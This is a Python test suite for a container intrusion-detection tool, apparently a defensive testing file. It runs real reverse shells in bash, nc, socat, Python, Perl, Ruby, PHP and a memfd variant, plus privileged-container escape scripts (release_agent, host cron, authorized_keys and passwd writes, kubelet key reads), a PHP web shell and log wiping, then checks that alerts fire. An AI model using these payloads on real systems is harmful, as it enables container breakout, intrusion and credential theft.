#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Reverse shells and ways out of a container, one technique after the other, each for real in a runc
container: every one raises its alert, which names the container.
"""

import os
import pathlib
import shutil
import socket
import subprocess
import unittest

from harness import PATIENCE, Listener, wait_until
from watched import Watched

SHELL = "Reverse shell"
RELAY = "Network relay on a named pipe"
ON_TERMINAL = "Shell on a terminal made in the container"
BEHIND_RELAY = "Shell started by a network relay"
NAMELESS = "Program without a name executed in a container"

# The node's programs, for containers that need more than their image has.
PROGRAMS = {"/usr": "/usr", "/lib": "/lib", "/lib64": "/lib64"}

# What /usr/bin has under these names are links by way of /etc.
RUBY_PROGRAM, PHP_PROGRAM = (os.path.realpath(shutil.which(name)) for name in ("ruby", "php"))

PYTHON = """
import os, socket
s = socket.create_connection(("127.0.0.1", {port}))
for stream in range(3): os.dup2(s.fileno(), stream)
os.execv("/usr/bin/bash", ["bash"])
"""
MEMFD = """
import os, socket
s = socket.create_connection(("127.0.0.1", {port}))
m = os.memfd_create("x")
os.write(m, open("/bin/busybox", "rb").read())
for stream in range(3): os.dup2(s.fileno(), stream)
os.execve(f"/proc/self/fd/{{m}}", ["sh"], {{}})
"""
PERL = """
use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in({port}, inet_aton("127.0.0.1")));
open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh");
"""

PYTHON_PTY = """
import os, pty, socket
s = socket.create_connection(("127.0.0.1", {port}))
for stream in range(3): os.dup2(s.fileno(), stream)
pty.spawn("/usr/bin/bash")
"""
# The connection stays with the go-between, whatever it is called; the shell has a terminal.
PTY_RELAY = """
import os, pty, select, socket
s = socket.create_connection(("127.0.0.1", {port}))
pid, terminal = pty.fork()
if pid == 0: os.execv("/usr/bin/bash", ["bash"])
while True:
    for ready in select.select([s, terminal], [], [])[0]:
        data = os.read(ready if ready == terminal else s.fileno(), 4096)
        os.write(s.fileno() if ready == terminal else terminal, data)
"""
VSOCK = """
import os, socket
s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
for stream in range(3): os.dup2(s.fileno(), stream)
os.execv("/usr/bin/bash", ["bash"])
"""
SCRIPT = "exec 3<>/dev/tcp/127.0.0.1/{port}; /usr/bin/script -qc /usr/bin/bash /dev/null <&3 >&3"
RUBY = """
s = TCPSocket.open("127.0.0.1", {port})
exec("/bin/sh", :in => s, :out => s, :err => s)
"""
PHP = """
$s = fsockopen("127.0.0.1", {port});
proc_close(proc_open("/bin/sh", [$s, $s, $s], $pipes));
"""

# How the shell is started, and the rules that tell. {port}: where the attacker listens.
SHELLS = {
    "bash /dev/tcp": (["/usr/bin/bash", "-c", "exec bash -i >&/dev/tcp/127.0.0.1/{port} 0>&1"], [SHELL]),
    "nc -e": (["/bin/nc", "127.0.0.1", "{port}", "-e", "/bin/sh"], [SHELL]),
    "sh, mkfifo and nc": (["/bin/sh", "-c", "/bin/busybox mkfifo /tmp/f; /bin/sh -i </tmp/f 2>&1 | "
                           "/bin/nc 127.0.0.1 {port} >/tmp/f"],
                          [RELAY, "Shell takes its commands from a named pipe"]),
    "telnet": (["/bin/sh", "-c", "/bin/busybox mkfifo /tmp/f; /bin/busybox telnet 127.0.0.1 {port} </tmp/f "
                "| /bin/sh >/tmp/f 2>&1"], [RELAY]),
    "socat with a terminal": (["/usr/bin/socat", "TCP:127.0.0.1:{port}",
                               "EXEC:/usr/bin/bash,pty,setsid,ctty,stderr"], [BEHIND_RELAY, ON_TERMINAL]),
    "a relay to a terminal": (["/usr/bin/python3", "-c", PTY_RELAY], [ON_TERMINAL]),
    "script": (["/usr/bin/bash", "-c", SCRIPT], [ON_TERMINAL]),
    "python": (["/usr/bin/python3", "-c", PYTHON], [SHELL]),
    "perl": (["/usr/bin/perl", "-e", PERL], [SHELL]),
    "python with a terminal": (["/usr/bin/python3", "-c", PYTHON_PTY], [SHELL]),
    "ruby": ([RUBY_PROGRAM, "-rsocket", "-e", RUBY], [SHELL]),
    "php": ([PHP_PROGRAM, "-n", "-r", PHP], [SHELL]),
    "bash that reads line by line": (["/usr/bin/bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/{port}; /usr/bin/cat <&5 | "
                                      "while read line; do eval \"$line\" 2>&1 >&5; done"], [SHELL]),
    "socat without a terminal": (["/usr/bin/socat", "TCP:127.0.0.1:{port}", "EXEC:/bin/sh"], [BEHIND_RELAY]),
    "a program in memory": (["/usr/bin/python3", "-c", MEMFD], [SHELL, NAMELESS, "Interpreter makes a file in memory"]),
    "a static program": (["/bin/dup3_shell", "127.0.0.1", "{port}"], [SHELL]),
}

# Scripts of a privileged container in the node's pid namespace, and the rule that tells. {service}: a
# process of the node; {disk}: a block device; /host: a directory of the node that looks like one.
WAYS_OUT = {
    "release_agent": ("mkdir -p /tmp/cg && mount -t cgroup -o none,name=nezuban{unique} none /tmp/cg && "
                      "exec 3<>/tmp/cg/release_agent; exec 3<&-; umount /tmp/cg",
                      "Container writes where the node's kernel takes a program from"),
    "poweroff_cmd": ("exec 3<>/proc/sys/kernel/poweroff_cmd",
                     "Container writes where the node's kernel takes a program from"),
    "a cgroup hierarchy": ("mkdir -p /tmp/cg && mount -t cgroup2 none /tmp/cg; umount /tmp/cg",
                           "Container mounts a cgroup hierarchy"),
    "the node's processes": ("mkdir -p /tmp/p && mount -t proc none /tmp/p; umount /tmp/p",
                             "Container mounts the host's proc"),
    "the namespaces of a process": ("nsenter -t {service} -m -u -i true", "Container enters other namespaces"),
    "the root of a process": ("read line </proc/{service}/root/etc/hostname",
                              "Container opens a file of another mount namespace"),
    "a user namespace": ("/usr/bin/unshare -U /bin/true", "Container makes a user namespace"),
    "a root directory of the node": ("/bin/busybox chroot /host /bin/true",
                                     "Container changes its root directory"),
    "cron of the node": ("echo '* * * * * root id' >/host/etc/cron.d/x",
                         "Container writes what the node starts programs from"),
    "a key for the node": ("mkdir -p /host/root/.ssh; echo key >>/host/root/.ssh/authorized_keys",
                           "Container writes what the node starts programs from"),
    "a unit for the node": ("mkdir -p /host/etc/systemd/system; echo '[Service]' >/host/etc/systemd/system/x.service",
                            "Container writes what the node starts programs from"),
    "a static pod": ("mkdir -p /host/etc/kubernetes/manifests; echo x >/host/etc/kubernetes/manifests/x.yaml",
                     "Container writes what the node starts programs from"),
    "a profile of the node's shells": ("mkdir -p /host/etc/profile.d; echo id >/host/etc/profile.d/x.sh",
                                       "Container writes what the node starts programs from"),
    "an account of the node": ("echo x::0:0::/:/bin/sh >>/host/etc/passwd",
                               "Container writes what the node starts programs from"),
    "a library for all programs of the node": ("echo /x.so >/host/etc/ld.so.preload",
                                               "Container writes what the node starts programs from"),
    "a database client's password": ("read line </host/root/.pgpass", "Container opens the node's credentials"),
    "another database client's password": ("read line </host/root/.my.cnf", "Container opens the node's credentials"),
    "an administrator's kubeconfig": ("read line </host/root/.kube/config", "Container opens the node's credentials"),
    "the kubelet's kubeconfig": ("read line </host/etc/kubernetes/kubelet.conf", "Container opens the node's credentials"),
    "a secret of another pod": ("read line </host/var/lib/kubelet/pods/1/volumes/kubernetes.io~secret/db/password",
                                "Container opens the node's credentials"),
    "a database's files": ("read line </host/var/lib/mysql/mysql.ibd", "Container opens the node's credentials"),
    "the kubelet's key": ("read line </host/var/lib/kubelet/pki/kubelet.key",
                          "Container opens the node's credentials"),
    "the kernel's tracing": ("mount -t tracefs none /sys/kernel/tracing && read line </sys/kernel/tracing/current_tracer",
                             "Container opens the kernel's debugging files"),
    "another network": ("nsenter -t {service} -n true", "Container enters another network namespace"),
    "the kernel's debugging files": ("mkdir -p /tmp/d && mount -t debugfs none /tmp/d; umount /tmp/d",
                                     "Container mounts a file system of the kernel"),
    "the runtime's socket": ("/usr/bin/python3 -c 'import socket; "
                             "socket.socket(socket.AF_UNIX).connect(\"/host/containerd.sock\")'",
                             "Container connects to the container runtime"),
    "a disk read with debugfs": ("/bin/busybox mknod /tmp/d b {disk} && /usr/sbin/debugfs -R 'cat /secret' /tmp/d",
                                 "Container opens a raw disk or the node's memory"),
    "the runtime's binary": ("exec 3>>/host/usr/bin/runc", "Container opens the runtime's binary for writing"),
}


# What an intruder does in a container, and the rule that tells.
DEEDS = {
    "Crypto miner started": "cp /bin/busybox /tmp/xmrig && /tmp/xmrig true; true",
    "Package manager started in a container": "/usr/bin/dpkg --version",
    "Compiler started in a container": "/usr/bin/gcc --version",
    "Shell started by a database server": "cp /usr/bin/bash /tmp/postgres && /tmp/postgres -c '/bin/sh -c true; true'",
    "Shell started by a web server": "cp /usr/bin/bash /tmp/nginx && /tmp/nginx -c '/bin/sh -c true; true'",
    "Container storms the kernel's keyrings": "/usr/bin/python3 -c 'import ctypes\n"
                                              "for n in range(120): ctypes.CDLL(None).syscall(248, b\"user\", b\"x\", b\"x\", 1, -2)'",
    "Cloud metadata asked for by a visitor": "/bin/nc -w 1 169.254.169.254 80 </dev/null",
    "Container starts a remote login": "/usr/bin/ssh -V",
    "Logs removed": "mkdir -p /var/log && echo >/var/log/wtmp && /bin/busybox rm /var/log/wtmp",
    "Container tries a mount that leads out": "mount -t ext4 /dev/sda1 /mnt; true",
    "Container opens a file by its handle": "/usr/bin/python3 -c 'import ctypes, os; ctypes.CDLL(None).syscall(304, "
                                            "os.open(\"/etc\", 0), b\"\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02\" + bytes(7), 0)'",
    "Shell takes its commands from a pipe": "/usr/bin/python3 -c 'import subprocess; subprocess.run([\"/usr/bin/bash\"], "
                                            "input=b\"true\", stdout=subprocess.PIPE)'",
    "File made to look older": "/usr/bin/touch -d 2001-02-03 /tmp/old",
    "Container makes a device node of a disk": "/bin/busybox mknod /tmp/notes b 8 0; true",
    "Container opens a file in memory by a path": "/usr/bin/python3 -c 'import ctypes, ctypes.util, os; "
                                                  "m = os.memfd_create(\"x\"); "
                                                  "os.write(m, open(\"/lib/x86_64-linux-gnu/libm.so.6\", \"rb\").read()); "
                                                  "ctypes.CDLL(f\"/proc/self/fd/{m}\").cos'",
    "Container makes code of a file without a name": "/usr/bin/python3 -c 'import mmap, os; m = os.memfd_create(\"x\"); "
                                                     "os.ftruncate(m, 4096); mmap.mmap(m, 4096, mmap.MAP_PRIVATE, "
                                                     "mmap.PROT_READ | mmap.PROT_EXEC)'",
    "Command history removed": "mkdir -p /root && /bin/busybox ln -s /dev/null /root/.bash_history",
}


class Techniques(Watched):
    def node(self):
        """A directory that looks like a node's disk."""
        node = self.directory / "node"
        for name in ("bin", "etc/cron.d", "root"):
            (node / name).mkdir(parents=True, exist_ok=True)
        shutil.copy("/bin/busybox", node / "bin" / "true")
        for name in ("var/lib/kubelet/pki/kubelet.key", "usr/bin/runc", "root/.pgpass", "root/.my.cnf", "root/.kube/config",
                     "etc/kubernetes/kubelet.conf", "var/lib/mysql/mysql.ibd",
                     "var/lib/kubelet/pods/1/volumes/kubernetes.io~secret/db/password"):
            (node / name).parent.mkdir(parents=True, exist_ok=True)
            (node / name).write_text("x\n")
        return node

    def runtime_of(self, node):
        """Something that listens where a runtime would, on that node."""
        runtime = socket.socket(socket.AF_UNIX)
        self.addCleanup(runtime.close)
        runtime.bind(str(node / "containerd.sock"))
        runtime.listen()

    def disk(self):
        """Numbers of a block device with an ext2 on it that has a file named secret."""
        image, secret = self.directory / "node.img", self.directory / "secret"
        secret.write_text("node-secret\n")
        subprocess.run(["mke2fs", "-q", "-t", "ext2", image, "1024"], check=True)
        subprocess.run(["debugfs", "-w", "-R", f"write {secret} secret", image], check=True, capture_output=True)
        device = subprocess.run(["losetup", "--find", "--show", image], check=True, capture_output=True,
                                text=True).stdout.strip()
        self.addCleanup(subprocess.run, ["losetup", "-d", device])
        number = os.stat(device).st_rdev
        return f"{os.major(number)} {os.minor(number)}"

    def test_reverse_shells(self):
        for name, (command, rules) in SHELLS.items():
            with self.subTest(name):
                attacker = Listener()
                self.addCleanup(attacker.close)
                words = [word.format(port=attacker.port) for word in command]
                container = self.container(*words, ro=PROGRAMS)
                heard, _ = attacker.converse("echo $((6*7))")
                self.assertIn("42", heard)
                for rule in rules:
                    self.expect(rule, container, container.id)

    def test_a_socket_of_virtual_machines(self):
        """One without another end, as not every machine lets it be connected: the kernel says the same of it."""
        container = self.container("/usr/bin/python3", "-c", VSOCK, ro=PROGRAMS)
        container.finish()
        self.expect(SHELL, container, container.id, proc_exepath="/usr/bin/bash")

    def test_openssl_on_a_named_pipe(self):
        attacker = Listener()
        self.addCleanup(attacker.close)
        container = self.container(
            "/bin/sh", "-c", f"/bin/busybox mkfifo /tmp/f; /bin/sh -i </tmp/f 2>&1 | /usr/bin/openssl s_client "
            f"-quiet -connect 127.0.0.1:{attacker.port} >/tmp/f", ro=PROGRAMS)
        attacker.accept()[0].close()
        self.expect(RELAY, container, container.id)

    def test_a_shell_that_waits_for_its_peer(self):
        port = Listener()
        number = port.port
        port.close()
        container = self.container("/bin/nc", "-l", "-p", str(number), "-e", "/bin/sh")
        peer = subprocess.run(["/usr/bin/python3", "-c", f"""
import socket, time
for attempt in range(300):
    try:
        s = socket.create_connection(("127.0.0.1", {number}))
        break
    except ConnectionRefusedError: time.sleep(0.05)
s.sendall(b"echo $((6*7)); exit\\n")
print(s.makefile().read())
"""], check=True, capture_output=True, text=True, timeout=PATIENCE)
        self.assertIn("42", peer.stdout)
        self.expect(SHELL, container, container.id)

    def test_ways_out(self):
        node, disk = self.node(), self.disk()
        self.runtime_of(node)
        for number, (name, (script, rule)) in enumerate(WAYS_OUT.items()):
            with self.subTest(name):
                unique = f"{os.getpid()}x{number}"
                script = script.format(service=self.service.pid, unique=unique, disk=disk)
                container = self.run_privileged(script, mounts={"/host": node}, ro=PROGRAMS)
                self.expect(rule, container, container.id)

    def test_its_own_cgroup_left(self):
        container = self.run_privileged("mkdir -p /tmp/cg && mount -t cgroup2 none /tmp/cg && "
                                        "echo $$ >/tmp/cg/cgroup.procs && umount /tmp/cg")
        self.expect("Process moved out of its container's cgroup", container, "host", evt_arg_path="/")

    def test_a_descriptor_that_was_left_open(self):
        container = self.make_container("/bin/sh", "-c", "cd /proc/self/fd/3 && read line <etc/hostname")
        container.start(leaked="/")
        container.finish()
        self.expect("Container opens a file of another mount namespace", container, container.id,
                    fd_name="/etc/hostname")

    def test_deeds(self):
        for rule, script in DEEDS.items():
            with self.subTest(rule):
                container = self.container("/bin/sh", "-c", script, ro=PROGRAMS)
                container.finish()
                self.expect(rule, container, container.id)

    def test_a_web_shell_in_a_real_server(self):
        (self.directory / "web").mkdir(exist_ok=True)
        (self.directory / "web" / "x.php").write_text("<?php system($_GET['c']); ?>")
        served = Listener()
        port = served.port
        served.close()
        container = self.container(PHP_PROGRAM, "-n", "-S", f"127.0.0.1:{port}", "-t", "/web", ro=PROGRAMS,
                                   mounts={"/web": self.directory / "web"})
        answer = wait_until(lambda: subprocess.run(
            ["curl", "-s", f"http://127.0.0.1:{port}/x.php?c=id"], capture_output=True, text=True).stdout, "the server")
        self.assertIn("uid=0", answer)
        self.expect("Shell started by a web server", container, container.id)

    def test_a_shell_under_a_server_in_java(self):
        for server in "org.apache.catalina.startup.Bootstrap start", "-jar /app/app.jar":
            container = self.container(
                "/bin/sh", "-c", f"cp /usr/bin/bash /tmp/java && /tmp/java -c '/bin/sh -c true; true' {server}",
                ro=PROGRAMS)
            container.finish()
            self.expect("Shell started by a web server", container, container.id, proc_pexepath="/tmp/java")

    def test_what_a_shell_on_a_connection_reads(self):
        node = self.node()
        attacker = Listener()
        self.addCleanup(attacker.close)
        container = self.container("/bin/nc", "127.0.0.1", str(attacker.port), "-e", "/bin/sh", mounts={"/host": node})
        heard, port = attacker.converse("cat /host/root/.pgpass")
        self.assertIn("x", heard)
        alert = self.expect("Node's credentials read onto a connection", container, container.id,
                            fd_name="/host/root/.pgpass")
        self.assertEqual(alert["output_fields"]["proc.stdout.name"], f"127.0.0.1:{port}->127.0.0.1:{attacker.port}")

    def test_calls_of_the_api_are_counted(self):
        container = self.container(
            "/usr/bin/bash", "-c", f"for i in {{1..25}}; do exec 3<>/dev/tcp/127.0.0.1/{self.api_server.port}; done; "
            "exec 3<>/dev/tcp/127.0.0.1/22; true")
        for _ in range(25):
            self.api_server.accept()[0].close()
        container.finish()
        alert = self.expect("Kubernetes API called again and again by a visitor", container, container.id)
        self.assertEqual(alert["count"], 20)
        self.expect("Container connects to a remote login service", container, container.id)

    def test_tokens_of_several_pods(self):
        pods = pathlib.Path("/var/lib/kubelet/pods")
        made = [place for place in (pods.parent, pods) if not place.exists()]
        pods.mkdir(parents=True, exist_ok=True)
        self.addCleanup(lambda: [place.rmdir() for place in reversed(made)])
        tokens = []
        for number in range(3):
            pod = pods / f"nezuban-e2e-{os.getpid()}-{number}"
            self.addCleanup(shutil.rmtree, pod)
            tokens.append(pod / "volumes/kubernetes.io~projected/kube-api-access-x/token")
            tokens[-1].parent.mkdir(parents=True)
            tokens[-1].write_text("not-a-token\n")
        container = self.run_privileged(
            f"nsenter -t {self.service.pid} -m /usr/bin/bash -c 'cat {' '.join(map(str, tokens))}; "
            f"exec 3<>/dev/tcp/127.0.0.1/{self.api_server.port}'")
        self.api_server.accept()[0].close()
        several = self.expect("Tokens of several pods read", container)
        self.assertEqual(several["count"], 3)
        called = self.expect("Kubernetes API called after tokens of several pods were read", container)
        self.assertEqual([r["id"] for r in called["related"]], [several["id"]])

    def test_other_streams_on_the_network(self):
        for rule, command in (
                ("Program started on a network connection", ["/bin/nc", "127.0.0.1", "{port}", "-e", "/bin/cat"]),
                ("Shell output sent to a network connection",
                 ["/usr/bin/bash", "-c", "echo secret >/dev/tcp/127.0.0.1/{port}"])):
            with self.subTest(rule):
                peer = Listener()
                self.addCleanup(peer.close)
                container = self.container(*(word.format(port=peer.port) for word in command))
                peer.accept()[0].close()
                self.expect(rule, container, container.id)

    def test_scans_are_counted(self):
        container = self.container(
            "/usr/bin/bash", "-c", "for i in {1..60}; do exec 3<>/dev/tcp/127.0.1.$i/9; done 2>/dev/null; "
            "for i in {1..40}; do exec 3<>/dev/tcp/127.0.2.1/$i; done 2>/dev/null")
        container.finish()
        addresses = self.expect("Container scans addresses", container, container.id)
        self.assertEqual(addresses["count"], 50)
        ports = self.expect("Container scans ports", container, container.id)
        self.assertEqual(ports["count"], 30)


if __name__ == "__main__":
    unittest.main(verbosity=2)
